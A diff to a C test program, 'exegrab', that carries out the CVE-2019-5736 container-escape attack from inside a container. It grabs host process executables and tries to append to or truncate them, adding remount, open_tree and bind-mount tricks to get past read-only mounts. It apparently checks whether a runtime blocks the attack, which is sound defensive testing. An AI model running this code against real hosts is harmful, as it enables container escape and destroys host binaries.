@@ -1,12 +1,14 @@
 /* exegrab SECONDS: the attack of CVE-2019-5736, from inside a container. Holds the executable of
- * every process that it sees, and tries to write to it as long as it runs. Prints "saw TARGET" for
- * each executable that is not its own or busybox, and "WROTE TARGET" if a write succeeded. */
+ * every process that it sees, and tries to write to it as long as it runs: as it is, and through
+ * mounts that it makes writable, if it may. Prints "saw TARGET" for each executable that is not its
+ * own or busybox, and "WROTE TARGET" if a write succeeded. */
 #include <dirent.h>
 #include <err.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
@@ -65,18 +67,44 @@ static void scan(void)
 	closedir(d);
 }
 
-static void attack(struct held *h)
+static void try_write(int held_fd, const char *target)
 {
 	char link[64];
 	int fd;
 
-	snprintf(link, sizeof link, "/proc/self/fd/%d", h->fd);
+	snprintf(link, sizeof link, "/proc/self/fd/%d", held_fd);
 	fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
 	if (fd < 0)
 		return;
 	if (write(fd, "#", 1) == 1 || ftruncate(fd, 0) == 0)
-		printf("WROTE %s\n", h->target);
+		printf("WROTE %s\n", target);
 	close(fd);
+}
+
+static void attack(struct held *h)
+{
+	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
+	char link[64];
+	int clone;
+
+	snprintf(link, sizeof link, "/proc/self/fd/%d", h->fd);
+	try_write(h->fd, h->target);
+	mount_setattr(h->fd, "", AT_EMPTY_PATH, &writable, sizeof writable);
+	mount("none", link, NULL, MS_REMOUNT | MS_BIND, NULL);
+	try_write(h->fd, h->target);
+	clone = open_tree(h->fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
+	if (clone >= 0) {
+		mount_setattr(clone, "", AT_EMPTY_PATH, &writable, sizeof writable);
+		try_write(clone, h->target);
+		close(clone);
+	}
+	if (mount(link, "/mnt", NULL, MS_BIND, NULL) == 0) { /* a file, from image or test */
+		mount("none", "/mnt", NULL, MS_REMOUNT | MS_BIND, NULL);
+		clone = open("/mnt", O_PATH | O_CLOEXEC);
+		try_write(clone, h->target);
+		close(clone);
+		umount2("/mnt", MNT_DETACH);
+	}
 }
 
 int main(int argc, char **argv)
